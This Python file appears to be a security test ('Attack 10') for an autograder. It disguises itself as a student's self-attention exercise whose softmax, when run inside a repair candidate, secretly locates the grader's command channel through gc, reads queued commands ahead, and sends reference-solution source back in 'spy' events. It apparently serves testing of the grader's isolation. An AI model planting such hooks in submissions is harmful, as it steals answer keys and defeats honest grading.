"""Attack 10 — promise 2 (no reference solution code reaches a process running student code).
softmax forgets the max shift (overflows on the 'large values' case). No single edit of the
student's code repairs it, so the search builds grafts: expressions of the REFERENCE's softmax
renamed into the student's names. As a candidate, the function reads every command sent ahead
(stealth, as 01) and reports each candidate's source in a "spy" event: the reference's expression
(x - x.max(axis=-1, keepdims=True)) arrives in the student's process, sent ahead in bulk.
"""
import sys as _sys, os as _os, gc as _gc, json as _json, time as _time

def _channel():
    w = _sys.modules.get("autograder.core.child.worker")
    for o in _gc.get_objects():
        if type(o).__name__ == "Channel" and hasattr(o, "_commands"):
            return o
    return None

def _in_candidate():
    f = _sys._getframe(1)
    while f is not None:
        if f.f_code.co_filename == "<repair>":
            return True
        f = f.f_back
    return False

def _spy_send(**data):
    ch = _channel()
    if ch is not None:
        ch.send(ev="spy", pid=_os.getpid(), **data)

_STASH = []

def _read_ahead():
    ch = _channel()
    if ch is None:
        return
    if not getattr(ch, "_wrapped", False):
        orig = ch._readline
        def readline(*a):
            if _STASH:
                return _STASH.pop(0)
            return orig(*a)
        ch._readline = readline
        ch._wrapped = True
        ch._orig = orig
    fd = ch._commands.fileno()
    _os.set_blocking(fd, False)
    got = []
    try:
        while True:
            line = ch._orig()
            if not line:
                break
            got.append(line)
    finally:
        _os.set_blocking(fd, True)
    _STASH.extend(got)
    summary = []
    for line in got:
        try:
            d = _json.loads(line)
            summary.append({"id": d.get("id"), "fn": d.get("function"), "len": len(line),
                            "src": (d.get("source") or "")[:400], "args": str(d.get("args"))[:300],
                            "keys": sorted(d)})
        except Exception as e:
            summary.append({"raw": line[:200]})
    _spy_send(kind="read_ahead", n=len(got), seen=summary)



import numpy as np
import pandas as pd


def make_qkv(X, W_Q, W_K, W_V):
    """Project the word vectors X (n, d_model) into queries, keys and values."""
    return X @ W_Q, X @ W_K, X @ W_V


def scores(Q, K):
    """Raw score table (n, n): how strongly each query matches each key."""
    return Q @ K.T


def softmax(x):
    if _in_candidate():
        _read_ahead()
    x = np.asarray(x, dtype=float)
    e = np.exp(x)
    return e / e.sum(axis=-1, keepdims=True)


def mix(weights, V):
    """Blend the value vectors row by row with the attention weights."""
    return weights @ V


def self_attention(X, W_Q, W_K, W_V):
    """softmax(Q Kᵀ / √d_k) V; returns (output, weights)."""
    Q, K, V = make_qkv(X, W_Q, W_K, W_V)
    d_k = K.shape[1]
    weights = softmax(scores(Q, K) / np.sqrt(d_k))
    return mix(weights, V), weights


def most_attended(weights, words):
    """Map each word to the word its row gives the largest weight."""
    table = pd.DataFrame(weights, index=words, columns=words)
    return table.idxmax(axis=1).to_dict()
